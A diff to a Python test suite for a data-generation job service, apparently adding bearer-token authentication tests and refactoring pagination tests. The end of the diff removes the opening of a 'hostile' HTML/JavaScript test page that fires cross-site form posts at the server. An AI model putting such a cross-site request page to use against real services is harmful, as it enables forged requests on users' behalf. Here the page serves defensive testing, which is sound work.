@@ -115,6 +115,17 @@ def ask(url: str, method: str, path: str, body: Any = None, headers: dict[str, s
         return Answer(response.status, response.headers, response.read())
 
 
+def items(url: str, path: str, most: int = 2**23) -> list[Any]:
+    """All items of a list that comes in pages, none of which is longer than `most` bytes unless it has one item."""
+    found, after = [], ""
+    while after is not None:
+        answer = ask(url, "GET", f"{path}{after and '&after=' + after}")
+        assert len(answer.body) <= most or len(answer.json["items"]) == 1
+        found += answer.json["items"]
+        after = answer.json["next"]
+    return found
+
+
 @contextmanager
 def plug(url: str) -> Iterator[socket.socket]:
     """A raw connection to the server."""
@@ -543,7 +554,7 @@ def test_a_wrong_method_is_told_the_right_ones(live: Live, method: str, path: st
 
 
 def test_conflicts_are_409(live: Live) -> None:
-    """A finished job cannot be canceled or retried, and an idempotency key not be used for another request."""
+    """To cancel or retry a finished job, to delete a running one, to use a key for another request."""
     job_id = live.make("/generate", PERSONS)
     assert live.job(job_id, 30)["status"] == "completed"
     refused(live.ask("POST", f"/jobs/{job_id}/cancel"), 409, "completed")
@@ -552,10 +563,6 @@ def test_conflicts_are_409(live: Live) -> None:
     assert live.ask("POST", "/generate", PERSONS, key).status == 202
     refused(live.ask("POST", "/generate", {**PERSONS, "count": 11}, key), 409, "Idempotency-Key")
     refused(live.ask("POST", "/export", {"format": "csv"}, key), 409, "Idempotency-Key")
-
-
-def test_a_running_job_cannot_be_deleted(live: Live) -> None:
-    """409 until it is canceled; then 204."""
     job_id = live.make("/generate", BUSY)
     refused(live.ask("DELETE", f"/jobs/{job_id}"), 409, "cancel")
     assert live.ask("POST", f"/jobs/{job_id}/cancel").json["status"] == "canceled"
@@ -632,7 +639,9 @@ def test_values_are_read_in_the_forms_people_write(tmp_path: Path, load: Callabl
     assert (chosen.max_upload_bytes, chosen.upload_types) == (2 * 2**20, ("csv", "pdf"))
     assert chosen.database_path == tmp_path / "taskapi.db"
     assert load(DATABASE="/x/y.db").database_path == Path("/x/y.db")
-    assert load(HOST="0.0.0.0", ALLOWED_HOSTS="a.example").allowed_hosts == ("a.example",)
+    assert load(HOST="0.0.0.0", ALLOWED_HOSTS="a.example", NO_TOKEN="1").allowed_hosts == ("a.example",)
+    assert load("--no-token").no_token
+    assert not load(NO_TOKEN="false").no_token
 
 
 @pytest.mark.parametrize(("argv", "environ", "toml", "words"), [
@@ -659,6 +668,10 @@ def test_values_are_read_in_the_forms_people_write(tmp_path: Path, load: Callabl
     ([], {}, "workers = ", ["taskapi.toml"]),
     ([], {"CONFIG": "/nonexistent/a.toml"}, "", ["/nonexistent/a.toml"]),
     (["--host", "0.0.0.0"], {}, "", ["allowed_hosts"]),
+    (["--host", "0.0.0.0"], {"ALLOWED_HOSTS": "a.example"}, "", ["a token", "no_token"]),
+    (["--no-token"], {"TOKEN": "s3cret"}, "", ["no_token"]),
+    (["--token", "s3cret word"], {}, "", ["--token"]),
+    ([], {"NO_TOKEN": "maybe"}, "", ["TASKAPI_NO_TOKEN"]),
 ])
 def test_a_wrong_setting_is_named_with_the_nearest_right_one(
         tmp_path: Path, run: Callable[..., Ran], monkeypatch: pytest.MonkeyPatch, argv: list[str],
@@ -671,10 +684,12 @@ def test_a_wrong_setting_is_named_with_the_nearest_right_one(
     ran = run(*argv)
     assert (*ran[:2], ran.err.count("\n")) == (2, "", 1)
     assert not [word for word in words if word not in ran.err], ran.err
+    assert not (tmp_path / "data").exists()
 
 
 def test_help_and_the_table_name_every_setting(run: Callable[..., Ran]) -> None:
     """One model is behind all of them."""
+    assert run("--version") == (0, f"taskapi {taskapi.__version__}\n", "")
     shown = [run("--help"), run("serve", "--help")]
     for name, field in taskapi.Settings.model_fields.items():
         assert field.description
@@ -683,18 +698,6 @@ def test_help_and_the_table_name_every_setting(run: Callable[..., Ran]) -> None:
     assert {"host", "port", "data_dir", "database", "workers", "threads", "max_upload_bytes", "upload_types",
             "max_records", "max_pending", "max_attempts", "retention_days", "allowed_hosts", "log_level"
             } <= taskapi.Settings.model_fields.keys()
-
-
-@pytest.mark.parametrize(("argv", "code", "word"), [
-    (["--prot", "1"], 2, "--port"), (["--port", "x"], 2, "--port"), (["--version"], 0, taskapi.__version__)])
-def test_the_command_line_ends_with_the_right_code(tmp_path: Path, argv: list[str], code: int, word: str) -> None:
-    """2 for a setting, and one line on stderr rather than a traceback."""
-    ended = subprocess.run([sys.executable, taskapi.__file__, *argv], cwd=tmp_path, capture_output=True, text=True,
-                           check=False, timeout=30)
-    assert ended.returncode == code
-    assert word in ended.stdout + ended.stderr
-    assert (ended.stdout + ended.stderr).count("\n") == 1
-    assert not [*tmp_path.iterdir()]
 
 
 # ==== 3 Models ====
@@ -935,14 +938,8 @@ def test_attempts_count_from_the_last_checkpoint_that_moved(
 def test_a_page_of_jobs_ends_early_when_they_are_long(service: taskapi.Service, url: str) -> None:
     """At four megabytes of text; `next` goes on from there."""
     long = [service.queue.jobs.insert("script", {"script": "x" * 10**6})[0].job_id for _ in range(12)]
-    seen, after, pages = [], "", 0
-    while after is not None:
-        answer = ask(url, "GET", f"/jobs?limit=1000{after and '&after=' + after}")
-        assert len(answer.body) < 2**23
-        seen += [job["jobId"] for job in answer.json["items"]]
-        after, pages = answer.json["next"], pages + 1
-    assert seen == long[::-1]
-    assert pages == 3
+    assert [job["jobId"] for job in items(url, "/jobs?limit=1000", 2**23)] == long[::-1]
+    assert len(ask(url, "GET", "/jobs?limit=1000").json["items"]) in (4, 5)
 
 
 def test_finished_jobs_cost_claims_counts_and_lists_nothing(
@@ -1161,12 +1158,7 @@ def test_the_jobs_list_goes_back_page_by_page_and_filters(tmp_path: Path, script
     with held(tmp_path) as (service, runner), service.serving(port=0) as url:
         made = [service.enqueue("script", {}).job_id for _ in range(5)]
         ask(url, "POST", f"/jobs/{made[0]}/cancel")
-        seen, after = [], ""
-        while after is not None:
-            page = ask(url, "GET", f"/jobs?limit=2{after and '&after=' + after}").json
-            seen += [job["jobId"] for job in page["items"]]
-            after = page["next"]
-        assert seen == made[::-1]
+        assert [job["jobId"] for job in items(url, "/jobs?limit=2")] == made[::-1]
         assert [job["jobId"] for job in ask(url, "GET", "/jobs?status=canceled").json["items"]] == made[:1]
         runner.run()
         assert len(ask(url, "GET", "/jobs?status=completed&type=script").json["items"]) == 4
@@ -1425,12 +1417,7 @@ def test_order_by_sorts_by_value_with_nulls_first_and_ties_as_stored(
 def test_pages_of_records_follow_the_cursor_and_the_job(service: taskapi.Service, url: str) -> None:
     """Oldest first; each once."""
     made = [store(service, {"n": "int"}, [[n] for n in range(start, start + 7)]) for start in (0, 7)]
-    seen, after = [], ""
-    while after is not None:
-        page = ask(url, "GET", f"/records/thing?limit=4{after and '&after=' + after}").json
-        seen += [record["n"] for record in page["items"]]
-        after = page["next"]
-    assert seen == [*range(14)]
+    assert [record["n"] for record in items(url, "/records/thing?limit=4")] == [*range(14)]
     own = ask(url, "GET", made[1].links["records"]).json
     assert ([record["n"] for record in own["items"]], own["next"]) == ([*range(7, 14)], None)
     assert [(item["recordType"], item["count"], item["fields"]) for item in ask(url, "GET", "/records").json["items"]
@@ -1848,13 +1835,8 @@ def test_a_page_of_long_records_ends_early(service: taskapi.Service, url: str) -
     """At 4 MiB, or after one record; the pages have all of them, in order."""
     sizes = [10, 3_000_000, 2_000_000, 5_000_000, *[100_000] * 60, 10]
     store(service, {"n": "int", "t": "text"}, [[n, "x" * size] for n, size in enumerate(sizes)])
-    seen, after = [], ""
-    while after is not None:
-        answer = ask(url, "GET", f"/records/thing?limit=50{after and '&after=' + after}")
-        items, after = answer.json["items"], answer.json["next"]
-        assert len(answer.body) < 2**22 + 100 or len(items) == 1
-        seen += [(item["n"], len(item["t"])) for item in items]
-    assert seen == [*enumerate(sizes)]
+    assert [(item["n"], len(item["t"])) for item in items(url, "/records/thing?limit=50", 2**22 + 100)] == [
+        *enumerate(sizes)]
 
 
 def test_a_format_with_another_delimiter_is_one_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -2163,39 +2145,32 @@ def test_the_contracts_example_makes_the_records_it_describes() -> None:
     assert all(set(json.loads(r["address"])) == {"city", "zip"} for r in made)
 
 
-@pytest.mark.parametrize(
-    ("field", "values"),
-    [
-        ({"type": "date", "from": "2026-01-01", "to": "2026-01-02"}, {"2026-01-01", "2026-01-02"}),
-        ({"type": "date", "from": "-1d", "to": "today"}, {"2026-03-14", "2026-03-15"}),
-        ({"type": "date", "from": "-1M", "to": "-1M+1d"}, {"2026-02-15", "2026-02-16"}),
-        ({"type": "date", "from": "{start}", "to": "{start}+1d"}, {"2020-02-29", "2020-03-01"}),
-        ({"type": "date", "from": "{start}+1y", "to": "{start}+1y"}, {"2021-02-28"}),
-        ({"type": "date", "from": "{start}", "to": "2019-01-01"}, None),
-        ({"type": "datetime", "from": "now", "to": "+1s"}, {"2026-03-15T12:30:45Z", "2026-03-15T12:30:46Z"}),
-        (
-            {"type": "datetime", "from": "2026-01-01T01:00:00+01:00", "to": "2026-01-01T00:00:00Z"},
-            {"2026-01-01T00:00:00Z"},
-        ),
-        ({"type": "datetime", "from": "now", "to": "now", "ms": True}, {"2026-03-15T12:30:45.000Z"}),
-        ({"type": "int", "min": 2**63 - 2, "max": 2**63 - 1}, {2**63 - 2, 2**63 - 1}),
-        ({"type": "decimal", "min": "-0.01", "max": "0.01"}, {"-0.01", "0.00", "0.01"}),
-        ({"type": "decimal", "min": "7", "max": 8, "places": 0}, {"7", "8"}),
-        ({"type": "bool"}, {0, 1}),
-        ({"type": "const", "value": [1, None]}, {"[1,null]"}),
-        ({"type": "const", "value": None}, {None}),
-        ({"type": "choice", "values": ["a", 1, None]}, {'"a"', "1", None}),
-        ({"type": "choice", "values": [1, 2.5]}, {1, 2.5}),
-        ({"type": "pattern", "pattern": r"\#%"}, {f"#{n}" for n in range(1, 10)}),
-        ({"type": "template", "template": "100% {{{start|upper}}}"}, {"100% {2020-02-29}"}),
-        ({"type": "int", "min": 1, "max": 2, "mean": 900, "sd": 1}, {2}),
-        ({"type": "first_of", "of": ["no_such_method", {"type": "const", "value": "x"}]}, {"x"}),
-        ({"type": "product", "of": ["price", "quantity"], "places": 2}, {"3.00"}),
-        ({"type": "date_between", "args": {"start_date": "2026-01-01", "end_date": "{start}+0"}}, None),
-        ({"type": "date_between", "args": {"start_date": "{start}", "end_date": "2020-02-29"}}, {"2020-02-29"}),
-        ({"type": "random_element", "args": {"elements": {"x": 1, "y": 0}}}, {"x"}),
-    ],
-)
+@pytest.mark.parametrize(("field", "values"), [
+    ({"type": "date", "from": "2026-01-01", "to": "2026-01-02"}, {"2026-01-01", "2026-01-02"}),
+    ({"type": "date", "from": "-1d", "to": "today"}, {"2026-03-14", "2026-03-15"}),
+    ({"type": "date", "from": "-1M", "to": "-1M+1d"}, {"2026-02-15", "2026-02-16"}),
+    ({"type": "date", "from": "{start}", "to": "{start}+1d"}, {"2020-02-29", "2020-03-01"}),
+    ({"type": "date", "from": "{start}+1y", "to": "{start}+1y"}, {"2021-02-28"}),
+    ({"type": "date", "from": "{start}", "to": "2019-01-01"}, None),
+    ({"type": "datetime", "from": "now", "to": "+1s"}, {"2026-03-15T12:30:45Z", "2026-03-15T12:30:46Z"}),
+    ({"type": "datetime", "from": "2026-01-01T01:00:00+01:00", "to": "2026-01-01T00:00:00Z"}, {"2026-01-01T00:00:00Z"}),
+    ({"type": "datetime", "from": "now", "to": "now", "ms": True}, {"2026-03-15T12:30:45.000Z"}),
+    ({"type": "int", "min": 2**63 - 2, "max": 2**63 - 1}, {2**63 - 2, 2**63 - 1}),
+    ({"type": "decimal", "min": "-0.01", "max": "0.01"}, {"-0.01", "0.00", "0.01"}),
+    ({"type": "decimal", "min": "7", "max": 8, "places": 0}, {"7", "8"}),
+    ({"type": "bool"}, {0, 1}),
+    ({"type": "const", "value": [1, None]}, {"[1,null]"}),
+    ({"type": "const", "value": None}, {None}),
+    ({"type": "choice", "values": ["a", 1, None]}, {'"a"', "1", None}),
+    ({"type": "choice", "values": [1, 2.5]}, {1, 2.5}),
+    ({"type": "pattern", "pattern": r"\#%"}, {f"#{n}" for n in range(1, 10)}),
+    ({"type": "template", "template": "100% {{{start|upper}}}"}, {"100% {2020-02-29}"}),
+    ({"type": "int", "min": 1, "max": 2, "mean": 900, "sd": 1}, {2}),
+    ({"type": "first_of", "of": ["no_such_method", {"type": "const", "value": "x"}]}, {"x"}),
+    ({"type": "product", "of": ["price", "quantity"], "places": 2}, {"3.00"}),
+    ({"type": "date_between", "args": {"start_date": "2026-01-01", "end_date": "{start}+0"}}, None),
+    ({"type": "date_between", "args": {"start_date": "{start}", "end_date": "2020-02-29"}}, {"2020-02-29"}),
+    ({"type": "random_element", "args": {"elements": {"x": 1, "y": 0}}}, {"x"})])
 def test_a_field_reaches_all_of_its_values_and_no_other(field: dict[str, Any], values: set[Any] | None) -> None:
     """Both ends included."""
     others = {
@@ -2340,19 +2315,15 @@ def test_a_program_can_add_a_field_type_of_its_own(monkeypatch: pytest.MonkeyPat
 # ---- Unique ----
 
 
-@pytest.mark.parametrize(
-    ("field", "count"),
-    [
-        ({"type": "int", "min": 1, "max": 3000}, 3000),
-        ({"type": "bool"}, 2),
-        ({"type": "choice", "values": {"a": 1, "b": 9}}, 2),
-        ({"type": "date", "from": "2026-01-01", "to": "2026-12-31"}, 365),
-        ({"type": "decimal", "min": "0.00", "max": "9.99"}, 1000),
-        ({"type": "float", "min": 0, "max": 1, "round": 2}, 101),
-        ({"type": "pattern", "pattern": "?#"}, 260),
-        ({"type": "job"}, 639),
-    ],
-)
+@pytest.mark.parametrize(("field", "count"), [
+    ({"type": "int", "min": 1, "max": 3000}, 3000),
+    ({"type": "bool"}, 2),
+    ({"type": "choice", "values": {"a": 1, "b": 9}}, 2),
+    ({"type": "date", "from": "2026-01-01", "to": "2026-12-31"}, 365),
+    ({"type": "decimal", "min": "0.00", "max": "9.99"}, 1000),
+    ({"type": "float", "min": 0, "max": 1, "round": 2}, 101),
+    ({"type": "pattern", "pattern": "?#"}, 260),
+    ({"type": "job"}, 639)])
 def test_a_unique_field_gives_every_value_there_is_and_refuses_one_more(field: dict[str, Any], count: int) -> None:
     """The last value comes as easily as the first; one record more is refused up front, with the number there are."""
     field = {**field, "unique": True}
@@ -2364,20 +2335,15 @@ def test_a_unique_field_gives_every_value_there_is_and_refuses_one_more(field: d
 
 @pytest.mark.parametrize("count", [1500, pytest.param(5000, marks=MORE)])
 @pytest.mark.parametrize("exact", [True, False])
-@pytest.mark.parametrize(
-    "field",
-    [
-        {"type": "word"},
-        {"type": "email"},
-        {"type": "template", "template": "{name}@example.com"},
-        {"type": "uuid"},
-        {"type": "float"},
-        {"type": "first_of", "of": ["first_name"]},
-    ],
-)
+@pytest.mark.parametrize("field", [
+    {"type": "word"},
+    {"type": "email"},
+    {"type": "template", "template": "{name}@example.com"},
+    {"type": "uuid"},
+    {"type": "float"},
+    {"type": "first_of", "of": ["first_name"]}])
 def test_unique_values_do_not_run_out(
-    field: dict[str, Any], exact: bool, count: int, monkeypatch: pytest.MonkeyPatch
-) -> None:
+        field: dict[str, Any], exact: bool, count: int, monkeypatch: pytest.MonkeyPatch) -> None:
     """What is taken gets a number: before the @, or at its end. A Bloom filter in place of the set forgets nothing."""
     if not exact:
         monkeypatch.setattr(taskapi, "EXACT_SET", 0)
@@ -2830,20 +2796,16 @@ def _per(per: str, **schema: Any) -> dict[str, Any]:
     return {"per": per, "count": 1, "schema": {"id": "sequence", **schema}}
 
 
-@pytest.mark.parametrize(
-    ("records", "path", "message"),
-    [
-        ({"a": _per("b"), "b": _per("a")}, "records", "a -> b -> a"),
-        ({"a": _per("c")}, "per", "no such record type 'c'"),
-        ({"a": {"count": 5, "schema": {"x": {"type": "ref", "field": "b.id"}}}, "b": _per("a")}, "records", "a -> b"),
-        ({"a": {"count": [3, 1], "schema": {"x": "name"}}}, "count", "range"),
-        ({"a": {"count": 0, "schema": {"x": "name"}}}, "count", "1 or more"),
-        ({"a": {"count": 2, "schema": {"n": {"type": "sum", "field": "b.n"}}},
-          "b": _per("a", n={"type": "ref", "field": "a.n"})}, "records.b.schema.n", "only known once"),
-        ({"a": _per("b"), "b": {"count": 1, "schema": {"x": "name"}}, "c": {**_per("b"), "count": 10**6}},
-         "records.c.count", "at most"),
-    ],
-)  # fmt: skip
+@pytest.mark.parametrize(("records", "path", "message"), [
+    ({"a": _per("b"), "b": _per("a")}, "records", "a -> b -> a"),
+    ({"a": _per("c")}, "per", "no such record type 'c'"),
+    ({"a": {"count": 5, "schema": {"x": {"type": "ref", "field": "b.id"}}}, "b": _per("a")}, "records", "a -> b"),
+    ({"a": {"count": [3, 1], "schema": {"x": "name"}}}, "count", "range"),
+    ({"a": {"count": 0, "schema": {"x": "name"}}}, "count", "1 or more"),
+    ({"a": {"count": 2, "schema": {"n": {"type": "sum", "field": "b.n"}}},
+      "b": _per("a", n={"type": "ref", "field": "a.n"})}, "records.b.schema.n", "only known once"),
+    ({"a": _per("b"), "b": {"count": 1, "schema": {"x": "name"}}, "c": {**_per("b"), "count": 10**6}},
+     "records.c.count", "at most")])
 def test_relations_that_can_not_be_are_refused_by_name(records: Any, path: str, message: str) -> None:
     """Cycles, unknown names, impossible numbers."""
     found = problems(lambda: related(records))
@@ -2853,13 +2815,9 @@ def test_relations_that_can_not_be_are_refused_by_name(records: Any, path: str, 
 # ---- Presets and the catalogue ----
 
 
-@pytest.mark.parametrize(
-    ("name", "locale"),
-    [
-        *((name, "en_US") for name in taskapi.PRESETS if name != "shop"),
-        *(("person", locale) for locale in ("en_CA", "en_IN", "fil_PH", "ja_JP")),
-    ],
-)
+@pytest.mark.parametrize(("name", "locale"), [
+    *((name, "en_US") for name in taskapi.PRESETS if name != "shop"),
+    *(("person", locale) for locale in ("en_CA", "en_IN", "fil_PH", "ja_JP"))])
 def test_a_preset_is_a_plain_schema_of_coherent_records(name: str, locale: str) -> None:
     """Copied through JSON it makes the same; times are in order, addresses are the name's own."""
     specs = preset_records(name, 60)
@@ -2906,8 +2864,7 @@ def test_the_catalogue_lists_what_a_schema_may_use() -> None:
 
 @pytest.mark.parametrize(("field", "builds"), [("sequence", 0), ({"type": "date", "from": "-1y"}, 0), ("name", 1)])
 def test_faker_is_built_only_for_a_field_that_needs_it_and_used_again(
-    field: Any, builds: int, monkeypatch: pytest.MonkeyPatch
-) -> None:
+        field: Any, builds: int, monkeypatch: pytest.MonkeyPatch) -> None:
     """Building it takes most of a recipe's time; an unknown locale is refused all the same."""
     built = []
 
@@ -3892,15 +3849,6 @@ def test_a_file_of_several_lists_is_inferred_as_related_types() -> None:
     taskapi.GenerateRequest.model_validate(inferred)
 
 
-def test_an_ingest_whose_file_is_gone_cannot_be_retried(app):
-    """It says so at once; a failed job keeps no file."""
-    job = upload(app, "a.csv", b"a,b\n1\n", recordType="gone")
-    assert job["status"] == "failed"
-    answer = app.post(f"/jobs/{job['jobId']}/retry", status=409).json
-    assert "upload it again" in answer["error"]
-    assert app.get(job["links"]["self"]).json == job
-
-
 @pytest.mark.parametrize(("text", "kind"), [
     ("1\n-5\n", "int"), ("9223372036854775807", "int"), ("9223372036854775808", "decimal"),
     ("9" * 401, "text"), ("-0", "text"),
@@ -3962,17 +3910,15 @@ def test_a_number_with_an_exponent_among_others_is_a_decimal_as_it_is_written(ap
         assert export(app, f"powers_{export_format}", export_format) == first
 
 
-def test_an_upload_that_fails_leaves_no_record_and_no_file(app, tmp_path):
-    """The file of a bad upload is gone with its job's failure, and the type has no record."""
-    with taskapi.open_service(data_dir=tmp_path, inline=True) as service:
-        inner = webtest.TestApp(service.app)
-        job = upload(inner, "a.csv", b"a,b\n1,2\n" * 30_000 + b"3\n", recordType="bad")
-        assert job["status"] == "failed"
-        assert job["error"].startswith("line ")
-        assert "download" not in job["links"]
-    assert [*(tmp_path / "uploads").iterdir()] == []
-    with closing(sqlite3.connect(tmp_path / "taskapi.db")) as db:
-        assert db.execute("SELECT count(*) FROM _id_ranges").fetchone() == (0,)
+def test_an_upload_that_fails_leaves_no_record_and_no_file(service: taskapi.Service) -> None:
+    """The file of a bad upload is gone with its job's failure, so that it cannot be retried; no record is stored."""
+    app = webtest.TestApp(service.app)
+    job = upload(app, "a.csv", b"a,b\n1,2\n" * 30_000 + b"3\n", recordType="bad")
+    assert (job["status"], job["error"][:5], "download" in job["links"]) == ("failed", "line ", False)
+    assert [*(service.folder.root / "uploads").iterdir()] == []
+    assert plain(service.folder.root, "SELECT count(*) FROM _id_ranges") == [0]
+    assert "upload it again" in app.post(f"/jobs/{job['jobId']}/retry", status=409).json["error"]
+    assert app.get(job["links"]["self"]).json == job
 
 
 def test_an_ingest_goes_on_where_an_older_version_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -4686,7 +4632,7 @@ def test_computing_makes_room_only_while_requests_are_answered(monkeypatch: pyte
 
 
 def test_health_says_what_the_contract_shows(service: taskapi.Service, url: str) -> None:
-    """All keys, and links that answer."""
+    """All keys, and links that answer; JSON also for a browser under its second name, and a job under its own."""
     health = ask(url, "GET", "/")
     assert health.status == 200
     assert {"service": "taskapi", "version": taskapi.__version__, "status": "ok", "database": "ok", "queue": "ok",
@@ -4697,6 +4643,11 @@ def test_health_says_what_the_contract_shows(service: taskapi.Service, url: str)
     for name in ("jobs", "records"):
         assert ask(url, "GET", links[name]).status == 200
     assert (ask(url, "HEAD", "/").status, ask(url, "HEAD", "/").body) == (200, b"")
+    second = ask(url, "GET", "/health", None, {"Accept": "text/html"})
+    assert second.json | {"uptime": 0} == health.json | {"uptime": 0}
+    job = ask(url, "POST", "/generate", PERSONS).json
+    for path in ("/jobs", "/status"):
+        assert ask(url, "GET", f"{path}/{job['jobId']}?wait=1").json == job
 
 
 def test_health_is_503_when_no_worker_answers(tmp_path: Path) -> None:
@@ -4741,13 +4692,82 @@ def test_pages_of_friends_may_use_the_server_and_no_others(tmp_path: Path) -> No
             taskapi.open_service(tmp_path, cors_origins=[wrong])
 
 
-def test_health_and_jobs_have_their_second_names(service: taskapi.Service, url: str) -> None:
-    """JSON also for a browser; the job object; a wait."""
-    health = ask(url, "GET", "/health", None, {"Accept": "text/html"})
-    assert health.json | {"uptime": 0} == ask(url, "GET", "/").json | {"uptime": 0}
-    job = ask(url, "POST", "/generate", PERSONS).json
-    for path in ("/jobs", "/status"):
-        assert ask(url, "GET", f"{path}/{job['jobId']}?wait=1").json == job
+SECRET = "s3cret-of-ours"
+BEARER = {"Authorization": f"Bearer {SECRET}"}
+
+
+@pytest.fixture(scope="module")
+def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
+    """A server that wants a token."""
+    with Live(tmp_path_factory.mktemp("guarded") / "data", f"--token={SECRET}", "--cors-origins=https://a.example",
+              "--log-level=debug") as live:
+        yield live
+
+
+def test_every_call_but_the_health_check_wants_the_token(guarded: Live) -> None:
+    """Also what there is none of, in any form but the token's own; a refused body is not read."""
+    wrong = [{}, {"Authorization": f"Bearer {SECRET}x"}, {"Authorization": SECRET}, {"Authorization": "Bearer"},
+             {"Authorization": f"Basic {base64.b64encode(f'x:{SECRET}'.encode()).decode()}"},
+             {"Authorization": "Bearer \xe9"}, {"Cookie": f"taskapi={SECRET}; token={SECRET}"}]
+    calls = [*((entry.method, entry.path) for entry in SERVED), ("GET", "/nowhere"), ("OPTIONS", "/jobs"), ("PUT", "/")]
+    for (method, path), headers in itertools.product(calls, wrong):
+        answer = guarded.ask(method, f"{path}?token={SECRET}", None, headers)
+        if (method, path) == ("GET", "/"):
+            refused(answer, 400, "token")  # there is no such thing to ask for
+            assert guarded.ask("GET", "/", None, headers).json == {"status": "ok"}
+            continue
+        assert refused(answer, 401).keys() == {"error", "status"}
+        assert answer.headers["WWW-Authenticate"] == "Bearer"
+    for method, path in calls:
+        assert guarded.ask(method, path, None, BEARER).status != 401
+    assert SECRET not in guarded.log.read_text()
+
+
+def test_the_token_opens_everything_and_stands_nowhere(guarded: Live, tmp_path: Path) -> None:
+    """Any case of Bearer, a preflight without, the description, an upload refused by its head, HEAD, a child's log."""
+    assert guarded.ask("GET", "/", None, BEARER).json["service"] == "taskapi"
+    assert guarded.ask("GET", "/jobs", None, {"Authorization": f"bearer  {SECRET}"}).status == 200
+    assert guarded.ask("HEAD", "/").status == 401
+    asked = {"Origin": "https://a.example", "Access-Control-Request-Method": "POST",
+             "Access-Control-Request-Headers": "authorization"}
+    preflight = guarded.ask("OPTIONS", "/generate", None, asked)
+    assert (preflight.status, preflight.headers["Access-Control-Allow-Headers"]) == (204, "authorization")
+    assert guarded.ask("OPTIONS", "/generate", None, asked | {"Origin": "https://b.example"}).status == 401
+    with plug(guarded.url) as connection:
+        connection.sendall(head(90_000_000))
+        refused(parsed(rest(connection)), 401)
+    cookie = guarded.ask("POST", "/ui", None, BEARER).headers["Set-Cookie"].split("; ")
+    assert cookie[1:] == ["Path=/", "HttpOnly", "SameSite=Strict"]
+    assert guarded.ask("GET", "/jobs", None, {"Cookie": f"a=b; {cookie[0]}; c=d"}).status == 200
+    assert guarded.ask("GET", "/jobs", None, {"Cookie": f"{cookie[0][:-1]}"}).status == 401
+    document = guarded.ask("GET", "/openapi.json", None, BEARER).json
+    assert document["components"]["securitySchemes"] == {"token": {"type": "http", "scheme": "bearer"}}
+    assert document["security"] == [{"token": []}]
+    assert "401" in document["paths"]["/jobs"]["get"]["responses"]
+    texts = [json.dumps(document), guarded.log.read_text(), guarded.line]
+    texts += [guarded.ask("GET", path, None, BEARER).body.decode() for path in ("/", "/health", "/docs", "/metrics")]
+    texts += [path.read_text() for path in guarded.folder.glob("*.json")]
+    job_id = guarded.ask("POST", "/generate", PERSONS, BEARER).json["jobId"]
+    texts.append(guarded.ask("GET", f"/status/{job_id}?wait=9", None, BEARER).body.decode())
+    assert not [text for text in texts if SECRET in text]
+    assert SECRET not in repr(taskapi.Settings(token=SECRET))
+
+
+def test_the_commands_bring_the_token(
+        guarded: Live, run: Callable[..., Ran], monkeypatch: pytest.MonkeyPatch) -> None:
+    """By flag or variable; without it they say what is missing, and an interrupted one does not tell it."""
+    for flags, environ, code in (([], {}, 1), (["--token=wrong"], {}, 1), ([f"--token={SECRET}"], {}, 0),
+                                 ([], {"TASKAPI_TOKEN": SECRET}, 0)):
+        ran = subprocess.run([sys.executable, taskapi.__file__, "jobs", "--data-dir", guarded.folder, *flags],
+                             env=own_environ() | environ, capture_output=True, text=True, check=False, timeout=60)
+        assert (ran.returncode, "TASKAPI_TOKEN" in ran.stderr) == (code, bool(code)), ran
+    def interrupted(self: taskapi.Client, job_id: str) -> None:
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(taskapi.Client, "_watch", interrupted)
+    told = run("generate", "person", "--count", "5", "--workers=2", f"--token={SECRET}").err
+    assert re.search("resume .* --workers=2", told)
+    assert SECRET not in told
 
 
 @pytest.mark.parametrize("entry", SERVED, ids=lambda entry: f"{entry.method} {entry.path}")
@@ -5642,7 +5662,8 @@ class Tab:
         self._process = subprocess.Popen(
             [sys.executable, "-c", self.LAUNCH, str(theirs), str(ours), CHROMIUM, "--headless", "--no-sandbox",
              "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-dev-shm-usage",
-             f"--user-data-dir={folder}", "--window-size=1280,900", "--remote-debugging-pipe", "about:blank"],
+             "--host-resolver-rules=MAP *.example 127.0.0.1", f"--user-data-dir={folder}",
+             "--window-size=1280,900", "--remote-debugging-pipe", "about:blank"],
             pass_fds=(theirs, ours), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         os.close(theirs)
         os.close(ours)
@@ -5769,6 +5790,21 @@ def at_work(tmp_path: Path) -> Iterator[tuple[taskapi.Service, str]]:
     """A service with workers, served."""
     with taskapi.open_service(tmp_path / "data") as service, service.serving(port=0) as url:
         yield service, url
+
+
+@browsing
+def test_the_page_asks_for_the_token_once(guarded: Live, tab: Tab) -> None:
+    """A wrong one is told; the right one opens the page, which then asks and downloads with its cookie."""
+    tab.call("Page.navigate", url=guarded.url)
+    for token in ("wrong", SECRET):
+        tab.until("document.readyState === 'complete' && document.querySelector('[name=token]')")
+        tab.type("[name=token]", token)
+        tab.click("button", "Open")
+        tab.until("document.querySelector('[role=alert]')?.textContent || document.querySelector('#preview td')")
+    tab.until("document.querySelectorAll('#preview td').length")
+    assert tab.js("fetch('/jobs').then(answer => answer.status)") == 200
+    assert SECRET not in tab.js("location.href + document.documentElement.outerHTML")
+    tab.open(f"{guarded.url}/ui")
 
 
 @browsing
@@ -6382,7 +6418,7 @@ def edge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
         yield live
 
 
-@pytest.mark.parametrize("path", [entry.path for entry in SERVED if entry.method == "POST"])
+@pytest.mark.parametrize("path", [entry.path for entry in SERVED if entry.method == "POST" and entry.path != "/ui"])
 @pytest.mark.parametrize("case", named(STRANGE_BODIES))
 def test_no_body_is_too_strange_to_be_refused(edge: Live, path: str, case: tuple[bytes, str]) -> None:
     """Each JSON endpoint names what is wrong; one that takes no body does not read it."""
@@ -6679,21 +6715,40 @@ def test_schemathesis_finds_no_answer_that_is_not_described(tmp_path: Path) -> N
         assert "Traceback" not in live.log.read_text()
 
 
-HOSTILE_PAGE = """<!doctype html><meta charset=utf-8><title>hostile</title><body><script>
-const target = TARGET, report = {};
-async function attempt(name, work) {
-  try { report[name] = String(await work()); } catch (error) { report[name] = "refused: " + error.name; }
-}
-function form(path, type, name, value) {
-  const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
-  document.body.append(frame);
-  const form = Object.assign(document.createElement("form"), {method: "post", action: target + path, enctype: type,
-                                                             target: frame.name});
-  form.append(Object.assign(document.createElement("input"), {name, value}));
-  document.body.append(form);
